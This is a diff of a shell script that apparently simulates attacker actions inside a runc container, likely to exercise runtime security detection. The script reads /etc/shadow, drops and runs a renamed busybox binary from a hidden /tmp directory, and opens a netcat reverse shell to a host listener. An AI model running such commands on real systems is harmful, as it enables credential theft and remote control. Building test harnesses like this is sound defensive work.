@@ -56,11 +56,11 @@ runc list | grep "$cid"
 port=$((20000 + RANDOM % 20000))
 step "Attacker actions inside the container"
 echo "+ runc exec $cid sh -c 'id; uname -a'"
-bw_container_exec "$cid" sh -c 'id; uname -a'
+bw_container_exec "$cid" sh -c 'id; uname -a' || true
 echo "+ runc exec $cid cat /etc/shadow"
-bw_container_exec "$cid" cat /etc/shadow >/dev/null
-echo "+ runc exec $cid sh -c 'cp /bin/busybox /tmp/dropper && /tmp/dropper echo dropped binary ran'"
-bw_container_exec "$cid" sh -c 'cp /bin/busybox /tmp/dropper && chmod +x /tmp/dropper && /tmp/dropper echo dropped binary ran'
+bw_container_exec "$cid" cat /etc/shadow >/dev/null || true
+echo "+ runc exec $cid sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/whoami && /tmp/.x/whoami'"
+bw_container_exec "$cid" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/whoami && /tmp/.x/whoami' || true
 echo "+ reverse shell: runc exec $cid nc 127.0.0.1 $port -e /bin/sh   (listener on the host)"
 ( echo 'id; exit' | timeout 5 busybox nc -l -p "$port" >"$work/listener.out" 2>&1 ) &
 listener_pid=$!
